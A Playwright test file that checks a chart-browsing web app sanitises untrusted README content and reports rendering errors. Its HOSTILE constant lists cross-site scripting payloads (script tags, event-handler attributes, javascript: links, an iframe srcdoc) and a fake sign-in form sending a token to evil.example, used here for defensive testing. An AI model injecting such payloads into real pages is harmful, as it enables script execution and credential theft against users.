"""Charts come from strangers: what a README brings along must not run in the page that shows it."""

import json

from playwright.sync_api import Route, expect

from tests.chart_reader.packing import pack_chart
from tests.journeys.conftest import Chartroom, StartChartroom, registry_input
from tests.pages.conftest import OpenPage, register, wait_until_synced
from tests.real.docker_registry import StartDockerRegistry
from tests.real.pushing import push_chart

HOSTILE = """# Hostile <script>window.owned = 1</script>

<script>window.owned = 2</script>
<img src="x" onerror="window.owned = 3">
<svg onload="window.owned = 4"></svg>
<iframe srcdoc="<script>parent.owned = 5</script>"></iframe>
<a href="javascript:window.owned = 6" id="trap">a link</a>
<style>body { display: none }</style>
<div style="position: fixed; inset: 0; background: red" onmouseover="window.owned = 7">over the page</div>
<form action="https://evil.example"><input name="token"><button>Sign in again</button></form>
<details open ontoggle="window.owned = 8"><summary>more</summary></details>
[a markdown link](javascript:window.owned=9)

The end.
"""


def chartroom_with(start_chartroom: StartChartroom, docker_registry: StartDockerRegistry, readme: str) -> Chartroom:
    """Which has pulled a chart with this README."""
    registry = docker_registry(login=False, tls=False)
    push_chart(registry, "evil/chart", pack_chart("chart", "1.0.0", {"README.md": readme}))
    chartroom = start_chartroom()
    wait_until_synced(chartroom, register(chartroom, registry_input(registry, "evil/chart", name="evil")))
    return chartroom


def test_a_hostile_readme_runs_no_script(
    start_chartroom: StartChartroom, docker_registry: StartDockerRegistry, open_page: OpenPage
) -> None:
    chartroom = chartroom_with(start_chartroom, docker_registry, HOSTILE)

    page = open_page(chartroom, "/store/evil/evil/chart")
    readme = page.locator(".readme")
    expect(readme).to_contain_text("The end.")
    for link in readme.get_by_role("link").all():
        assert not (link.get_attribute("href") or "").startswith("javascript:")
    assert readme.locator("script, iframe, form, style, [onerror], [onload], [style]").count() == 0
    assert page.evaluate("window.owned") is None


def test_even_a_readme_that_nobody_sanitised_runs_no_script(
    start_chartroom: StartChartroom, docker_registry: StartDockerRegistry, open_page: OpenPage
) -> None:
    chartroom = chartroom_with(start_chartroom, docker_registry, "# Plain")

    def corrupt(route: Route) -> None:
        answer = route.fetch()
        body = answer.json()
        version = (body.get("data") or {}).get("chartVersion") or {}
        if version.get("readme"):
            version["readme"]["html"] = HOSTILE
        route.fulfill(response=answer, body=json.dumps(body))

    page = open_page(chartroom, "/store")
    page.route("**/graphql", corrupt)
    page.goto(chartroom.base_url + "/store/evil/evil/chart")
    expect(page.locator(".readme")).to_contain_text("The end.")
    page.locator("#trap").click(force=True)
    page.locator(".readme div").hover(force=True)
    assert page.evaluate("window.owned") is None
    assert page.locator(".readme div").evaluate("element => getComputedStyle(element).position") == "static"


def test_readme_that_could_not_be_rendered_is_not_said_to_be_missing(
    start_chartroom: StartChartroom, docker_registry: StartDockerRegistry, open_page: OpenPage
) -> None:
    chartroom = chartroom_with(start_chartroom, docker_registry, "# Plain")
    fails = True

    def fail(route: Route) -> None:
        answer = route.fetch()
        body = answer.json()
        version = (body.get("data") or {}).get("chartVersion") or {}
        if fails and version.get("readme"):
            version["readme"] = None
            fault = {"message": "The README could not be rendered.", "path": ["chartVersion", "readme", "html"]}
            body["errors"] = [{**fault, "extensions": {"code": "UNREADABLE"}}]
        route.fulfill(response=answer, body=json.dumps(body))

    page = open_page(chartroom, "/store")
    page.route("**/graphql", fail)
    page.goto(chartroom.base_url + "/store/evil/evil/chart")
    expect(page.get_by_role("alert")).to_contain_text("The README could not be rendered.")
    assert page.get_by_text("published without one").count() == 0
    fails = False
    page.get_by_role("button", name="Try again").click()
    expect(page.locator(".readme")).to_contain_text("Plain")
